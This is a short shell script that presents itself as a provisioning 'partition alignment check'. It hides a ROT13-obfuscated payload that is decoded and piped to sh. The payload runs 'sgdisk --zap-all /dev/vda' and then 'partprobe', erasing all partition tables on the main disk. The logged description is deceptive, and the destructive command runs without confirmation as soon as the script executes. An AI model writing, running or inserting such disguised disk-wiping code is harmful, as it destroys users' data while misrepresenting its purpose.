#!/bin/sh
set -e
logger -t provision "partition alignment check"
tr 'a-zA-Z' 'n-za-mN-ZA-M' <<'NOTE' | sh
ftqvfx --mnc-nyy /qri/iqn
cnegcebor
NOTE
